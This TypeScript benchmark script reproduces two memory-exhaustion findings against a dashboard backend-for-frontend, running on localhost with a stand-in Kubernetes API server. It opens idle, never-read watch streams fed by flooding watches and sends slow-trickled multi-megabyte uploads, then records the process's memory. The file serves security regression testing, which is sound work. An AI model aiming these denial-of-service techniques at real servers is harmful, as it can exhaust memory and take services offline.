// Memory a signed-in user can make the BFF hold (security round 3, findings 1 and 2), measured as
// the BFF process's resident set size (VmRSS) while the attack runs and after it ends:
//
//   node bench/memory-attacks.ts [--attack watch|upload|upload-allowed|all] [--bff-dir DIR] [--flood]
//
//  - watch: 32 watch streams that never read (the socket is paused after the HELLO line), each
//    subscribed to 14 watches whose API server sends 120 objects of 4 KB each (--flood: without
//    end, as fast as it may);
//  - upload: 100 uploads of 3 MiB − 100 B to paths the allowlist refuses, the rest trickled at one
//    byte every 5 s (under the body stall limit);
//  - upload-allowed: the same to an allowed path (APIRules), where only the body budget holds.
//
// The API server is a stand-in in this process (the attacks need one that floods watches; no
// Kubernetes object is created); the BFF is a real `node server/main.ts` child process in token mode.
// --bff-dir runs another checkout (e.g. the code before a fix) with the same attack.
import { spawn, type ChildProcess } from 'node:child_process'
import { readFileSync } from 'node:fs'
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { connect, type AddressInfo, type Socket } from 'node:net'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import { parseArgs } from 'node:util'
import { SERVER_NODE_FLAGS } from '../server/node-flags.ts'

const { values: args } = parseArgs({
  options: {
    attack: { type: 'string', default: 'all' },
    'bff-dir': { type: 'string' },
    seconds: { type: 'string', default: '15' },
    after: { type: 'string', default: '20' },
    flood: { type: 'boolean', default: false },
  },
})
const bffDir = path.resolve(
  args['bff-dir'] ?? path.join(path.dirname(fileURLToPath(import.meta.url)), '..'),
)
const ATTACK_S = Number(args.seconds)
const AFTER_S = Number(args.after)
const MIB = 1024 * 1024
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms))

// --- the stand-in API server --------------------------------------------------------------------
const pad = 'x'.repeat(4000)
/**
 * A watch without resourceVersion: the API server first sends every existing object as ADDED, then
 * waits. Here 120 objects of 4 KB (≈ 480 KB per watch, so the 14 watches of a stream stay under the
 * old 8 MiB cut-off, as in the review); with --flood, events without end.
 */
function flood(res: ServerResponse) {
  res.writeHead(200, { 'content-type': 'application/json' })
  let n = 0
  const pump = () => {
    while (!res.destroyed && (args.flood || n < 120)) {
      const line = `${JSON.stringify({ type: 'ADDED', object: { kind: 'Thing', metadata: { name: `o${n++}`, resourceVersion: String(n) }, pad } })}\n`
      if (!res.write(line)) return void res.once('drain', pump)
    }
  }
  pump()
}
const api = createServer((req: IncomingMessage, res: ServerResponse) => {
  const url = req.url ?? ''
  if (url.includes('watch=true')) return flood(res)
  req.resume()
  req.on('end', () => {
    res.writeHead(201, { 'content-type': 'application/json' })
    if (url.includes('selfsubjectreviews'))
      res.end(
        JSON.stringify({
          kind: 'SelfSubjectReview',
          status: { userInfo: { username: 'mallory' } },
        }),
      )
    else res.end(JSON.stringify({ kind: 'Status', code: 201 }))
  })
})
await new Promise<void>((r) => api.listen(0, '127.0.0.1', r))
const apiUrl = `http://127.0.0.1:${(api.address() as AddressInfo).port}`

// --- the BFF ------------------------------------------------------------------------------------
async function startBff(): Promise<{ child: ChildProcess; port: number }> {
  // The V8 flags the image runs with (server/node-flags.ts).
  const child = spawn(
    process.execPath,
    [
      ...SERVER_NODE_FLAGS,
      path.join(bffDir, 'server/main.ts'),
      '--auth-mode=token',
      `--server=${apiUrl}`,
      '--port=0',
      '--log-level=info',
      '--static-dir=/nonexistent',
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  )
  const port = await new Promise<number>((resolve, reject) => {
    let out = ''
    child.stdout?.on('data', (c: Buffer) => {
      out += c.toString()
      const m = /"msg":"Server listening at http:\/\/127\.0\.0\.1:(\d+)"/.exec(out)
      if (m) resolve(Number(m[1]))
    })
    child.once('exit', () => reject(new Error(`BFF exited:\n${out}`)))
  })
  child.stdout?.resume()
  return { child, port }
}

function rssMiB(pid: number): number {
  const status = readFileSync(`/proc/${pid}/status`, 'utf8')
  return Number(/VmRSS:\s+(\d+)/.exec(status)?.[1] ?? 0) / 1024
}

async function request(
  port: number,
  method: string,
  target: string,
  headers: Record<string, string>,
  body?: string,
) {
  const res = await fetch(`http://127.0.0.1:${port}${target}`, { method, headers, body })
  return { status: res.status, headers: res.headers, text: await res.text() }
}

async function signIn(port: number): Promise<string> {
  const origin = `http://127.0.0.1:${port}`
  const res = await request(
    port,
    'POST',
    '/api/auth/login',
    { origin, 'x-kyma-dashboard-csrf': '1', 'content-type': 'application/json' },
    JSON.stringify({ token: 'mallory-token' }),
  )
  const cookie = res.headers.get('set-cookie')?.split(';')[0]
  if (res.status !== 200 || !cookie) throw new Error(`sign-in failed: ${res.status} ${res.text}`)
  return cookie
}

const WATCH_PATHS = [
  '/apis/gateway.kyma-project.io/v2/apirules',
  '/apis/gateway.kyma-project.io/v2/namespaces/default/apirules',
  '/api/v1/namespaces',
  '/api/v1/services',
  '/api/v1/namespaces/default/services',
  '/api/v1/events',
  '/api/v1/namespaces/default/events',
  '/apis/serverless.kyma-project.io/v1alpha2/functions',
  '/apis/networking.istio.io/v1/gateways',
  '/apis/networking.istio.io/v1/virtualservices',
  '/apis/security.istio.io/v1/authorizationpolicies',
  '/apis/security.istio.io/v1/requestauthentications',
  '/apis/apiextensions.k8s.io/v1/customresourcedefinitions',
  '/apis/gateway.kyma-project.io/v1beta1/apirules',
]

/** Opens a watch stream on a raw socket, reads its HELLO line, then never reads again. */
function openIdleStream(port: number, cookie: string): Promise<{ socket: Socket; id: string }> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1')
    socket.write(
      `GET /api/watch-stream HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nCookie: ${cookie}\r\n\r\n`,
    )
    let text = ''
    const onData = (c: Buffer) => {
      text += c.toString('latin1')
      const m = /"streamId":"([A-Za-z0-9_-]{43})"/.exec(text)
      if (!m) return
      socket.off('data', onData)
      socket.pause()
      resolve({ socket, id: m[1] ?? '' })
    }
    socket.on('data', onData)
    socket.once('error', reject)
  })
}

async function watchAttack(port: number, cookie: string): Promise<() => void> {
  const origin = `http://127.0.0.1:${port}`
  const sockets: Socket[] = []
  const codes = new Map<number, number>()
  for (let s = 0; s < 32; s++) {
    const stream = await openIdleStream(port, cookie)
    sockets.push(stream.socket)
    await Promise.all(
      WATCH_PATHS.map(async (p, i) => {
        const res = await request(
          port,
          'POST',
          `/api/watch-stream/${stream.id}/subscribe`,
          { origin, cookie, 'x-kyma-dashboard-csrf': '1', 'content-type': 'application/json' },
          JSON.stringify({ id: `w${i}`, path: `${p}?watch=true` }),
        )
        codes.set(res.status, (codes.get(res.status) ?? 0) + 1)
      }),
    )
  }
  console.log(`  subscribe answers: ${JSON.stringify(Object.fromEntries(codes))}`)
  return () => sockets.forEach((s) => s.destroy())
}

async function uploadAttack(port: number, cookie: string, target: string): Promise<() => void> {
  const origin = `http://127.0.0.1:${port}`
  const size = 3 * MIB - 100
  const sockets: Socket[] = []
  const timers: ReturnType<typeof setInterval>[] = []
  const statuses = new Map<string, number>()
  for (let i = 0; i < 100; i++) {
    const socket = connect(port, '127.0.0.1')
    socket.on('error', () => {})
    let first = ''
    socket.on('data', (c: Buffer) => {
      if (first === '') {
        first = c.toString('latin1').split('\r\n')[0] ?? '?'
        statuses.set(first, (statuses.get(first) ?? 0) + 1)
      }
    })
    socket.write(
      `POST ${target} HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nOrigin: ${origin}\r\nX-Kyma-Dashboard-Csrf: 1\r\nContent-Type: application/json\r\nCookie: ${cookie}\r\nContent-Length: ${size}\r\n\r\n`,
    )
    socket.write(Buffer.alloc(size - 100, 0x20))
    timers.push(setInterval(() => socket.writable && socket.write(' '), 5000))
    sockets.push(socket)
  }
  await sleep(2000)
  console.log(`  first answers: ${JSON.stringify(Object.fromEntries(statuses))}`)
  return () => {
    timers.forEach(clearInterval)
    sockets.forEach((s) => s.destroy())
  }
}

async function run(name: string, attack: (port: number, cookie: string) => Promise<() => void>) {
  const { child, port } = await startBff()
  const pid = child.pid ?? 0
  const cookie = await signIn(port)
  await sleep(1000)
  const before = rssMiB(pid)
  let peak = before
  const sample = setInterval(() => (peak = Math.max(peak, rssMiB(pid))), 200)
  const stop = await attack(port, cookie)
  await sleep(ATTACK_S * 1000)
  const during = rssMiB(pid)
  stop()
  await sleep(AFTER_S * 1000)
  clearInterval(sample)
  const after = rssMiB(pid)
  // Is the BFF still serving? (A healthy answer after the attack.)
  const health = await request(port, 'GET', '/healthz', {}).then(
    (r) => r.status,
    () => 0,
  )
  child.kill('SIGTERM')
  const f = (n: number) => n.toFixed(0)
  console.log(
    `${name}: RSS MiB before ${f(before)}, peak ${f(peak)}, at ${ATTACK_S} s ${f(during)}, ${AFTER_S} s after ${f(after)}; /healthz ${health}`,
  )
}

console.log(`BFF: ${bffDir} (Node ${process.version})`)
const which = args.attack
if (which === 'watch' || which === 'all')
  await run('watch (32 idle streams × 14 watches)', watchAttack)
if (which === 'upload' || which === 'all')
  await run('upload (100 × 3 MiB to a refused path)', (port, cookie) =>
    uploadAttack(port, cookie, '/api/k8s/api/v1/namespaces/default/configmaps'),
  )
if (which === 'upload-allowed' || which === 'all')
  await run('upload-allowed (100 × 3 MiB to APIRules)', (port, cookie) =>
    uploadAttack(
      port,
      cookie,
      '/api/k8s/apis/gateway.kyma-project.io/v2/namespaces/default/apirules',
    ),
  )
api.closeAllConnections()
api.close()
